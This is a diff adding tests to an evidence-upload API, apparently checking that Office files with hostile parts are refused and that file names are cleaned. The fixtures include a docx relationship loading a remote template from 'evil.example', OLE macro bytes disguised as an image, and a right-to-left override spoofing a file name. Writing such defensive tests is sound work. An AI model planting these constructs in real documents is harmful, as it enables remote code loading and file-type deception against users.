@@ -127,6 +127,36 @@ describe('POST /api/v1/assessments/:assessmentId/evidence', () => {
     expect(error).toMatch(reason);
   });
 
+  it.each([
+    [
+      'that loads a remote template',
+      {
+        name: 'word/_rels/settings.xml.rels',
+        content:
+          '<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+      },
+      /loads a template from another place/,
+    ],
+    [
+      'with renamed macros',
+      { name: 'word/media/image1.png', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') },
+      /embedded object or a macro/,
+    ],
+  ])('S15: 400 for a document %s; stores nothing', async (_, part, reason) => {
+    const document = buildOfficeFile('docx', [part]);
+    const { status, error } = await refused(await anAssessment(), { fileName: 'policy.docx' }, document);
+    expect(status).toBe(400);
+    expect(error).toMatch(reason);
+  });
+
+  it('S15: 201 stores the file name without folders and right-to-left overrides', async () => {
+    const assessmentId = await anAssessment();
+    const { id, fileName } = await anEvidence(assessmentId, { fileName: 'audits/policy\u202Efdp.txt' });
+    expect(fileName).toBe('policyfdp.txt');
+    const [stored] = await test.database.query('select file_name from evidence where id = $1', [id]);
+    expect(stored).toEqual({ file_name: 'policyfdp.txt' });
+  });
+
   it('400 without a body', async () => {
     const { method, url, query } = uploadEvidenceCall(await anAssessment());
     expect((await integrator.refused({ method, url, query })).statusCode).toBe(400);
